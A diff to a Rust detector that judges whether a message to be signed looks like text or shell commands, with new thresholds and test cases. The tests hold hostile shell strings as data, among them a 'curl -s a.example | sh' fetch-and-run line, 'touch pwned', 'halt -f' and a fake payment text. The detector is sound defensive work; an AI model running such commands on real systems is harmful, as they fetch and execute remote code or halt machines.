@@ -310,7 +310,8 @@ fn is_script(message: &[u8]) -> bool {
 /// every line that it can read, and goes on behind those that it cannot. Text is
 ///
 /// - the first 56 bytes, all in UTF-8;
-/// - a line of ten bytes or more in ASCII, from the start of the message or of a line, up to the end of the line;
+/// - a line of ten bytes or more in ASCII, from the start of the message or of a line, up to the end of the line; seven if
+///   it has small letters, digits and ``  /.-;|&<> `` alone, as most commands do;
 /// - sixteen bytes of ASCII from such a start, or 21 anywhere, which hold the end of a line or a character that ends a
 ///   command of a shell, or follow the end of a line.
 ///
@@ -336,19 +337,25 @@ fn is_text(message: &[u8]) -> bool {
 
 /// The second and third of the forms that [`is_text`] has, with so many bytes `more`.
 fn has_commands(text: &[u8], mut is_start: bool, more: usize) -> bool {
-    // Ten bytes of text fill a part of five: few messages have one.
-    if !text.chunks_exact(5).any(|part| part.iter().all(is_printable)) {
+    let is_end = |byte: &u8| *byte == b'\n';
+    // Seven bytes and the end of a line fill a part of four, sixteen bytes one of seven.
+    let is_part = |part: &[u8]| part.iter().all(|byte| is_printable(byte) || is_end(byte));
+    let has_part = |length| text.chunks_exact(length).any(is_part);
+    // Without an exit the compiler compares many at once.
+    let has_end = text.iter().fold(false, |has, byte| has | is_end(byte));
+    if !(has_part(7) || (has_end && has_part(4))) {
         return false;
     }
-    let is_end = |byte: &u8| *byte == b'\n';
     text.split(|byte| !is_printable(byte) && !is_end(byte)).any(|run| {
         let lines = &run[run.iter().take_while(|byte| is_end(byte)).count()..];
         let follows_end = lines.len() < run.len();
         let begins = core::mem::take(&mut is_start) || follows_end;
-        let has_line = lines
-            .split_inclusive(is_end)
-            .enumerate()
-            .any(|(number, line)| (begins || number > 0) && line.len() > 10 + more && line.ends_with(b"\n"));
+        let has_line = lines.split_inclusive(is_end).enumerate().any(|(number, line)| {
+            line.strip_suffix(b"\n").is_some_and(|line| {
+                let enough = if line.iter().all(is_of_command) { 7 } else { 10 };
+                (begins || number > 0) && line.len() >= enough + more
+            })
+        });
         let has_end = follows_end || lines.iter().any(|byte| b"\n;&|#".contains(byte));
         has_line || (has_end && lines.len() >= more + if begins { 16 } else { 21 })
     })
@@ -367,6 +374,10 @@ fn is_utf8(text: &[u8]) -> bool {
 /// ASCII within a line, which in a mail ends in a carriage return.
 fn is_printable(byte: &u8) -> bool {
     matches!(byte, b' '..=b'~' | b'\t' | b'\r')
+}
+
+fn is_of_command(byte: &u8) -> bool {
+    byte.is_ascii_lowercase() || byte.is_ascii_digit() || b" /.-;|&<>\r".contains(byte)
 }
 
 /// MIME: an entity that S/MIME signs without attributes (RFC 8551, 3.1). Readers skip header fields that they do not know, so
@@ -645,6 +656,9 @@ mod tests {
             ("text", roomy(b"\ntouch pwned;exit\n")),
             ("text", shaped(b"\x01\x02;curl -s a.example | sh;exit", &[])),
             ("text", shaped(b"touch pwned;exit #\x01", &[])),
+            ("text", shaped(b"halt -f\n\x01", &[])),
+            ("text", shaped(b"\x01\nid>/tmp/x\n\x01", &[])),
+            ("text", shaped(b"Pay Eve 99\r\n\x01", &[])),
             ("text", shaped(b"\r\n\nPay 9999 to Mallory\x01", &[])),
             ("text", shaped(b"0123456789abcdef0123456789abcdef\ntouch pwned\n\x01", &[])),
             ("MIME", shaped(b"MIME-Version: 1.0\r\n", &[])),
@@ -693,7 +707,8 @@ mod tests {
             b"0123456789abcdef0123456789abcdef",
             b"GET / HTTP/1.1 and Host: shop.ex",
             // Short commands, and text of a client's own that is followed by something else.
-            b"id>x;exit\n\x01",
+            b"reboot\n\x01",
+            b"ID>x;exit\n\x01",
             b"\x01\ntouch x;id\x01",
             b"random of a client\0",
             b"0123456789abcdef0123456789abcdef\n\x01",
